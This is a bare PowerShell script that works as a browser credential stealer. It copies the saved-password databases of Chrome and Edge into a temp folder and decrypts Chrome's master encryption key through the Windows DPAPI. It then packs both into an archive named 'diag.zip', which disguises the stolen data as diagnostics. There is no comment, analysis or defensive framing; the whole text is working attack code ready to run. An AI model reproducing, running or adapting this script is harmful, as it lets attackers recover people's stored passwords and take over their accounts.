Add-Type -AssemblyName System.Security
$stage = "$env:TEMP\cache_$(Get-Random)"
New-Item -ItemType Directory -Path $stage | Out-Null

$profiles = @(
    "$env:LOCALAPPDATA\Google\Chrome\User Data\Default",
    "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default"
)
foreach ($p in $profiles) {
    if (Test-Path "$p\Login Data") {
        $name = Split-Path (Split-Path $p -Parent) -Parent | Split-Path -Leaf
        Copy-Item "$p\Login Data" "$stage\$name.db" -Force
    }
}

$localState = Get-Content "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State" -Raw | ConvertFrom-Json
$encKey = [Convert]::FromBase64String($localState.os_crypt.encrypted_key)
$key = [Security.Cryptography.ProtectedData]::Unprotect($encKey[5..($encKey.Length - 1)], $null, 'CurrentUser')
[IO.File]::WriteAllBytes("$stage\key.bin", $key)
Compress-Archive -Path "$stage\*" -DestinationPath "$env:TEMP\diag.zip" -Force
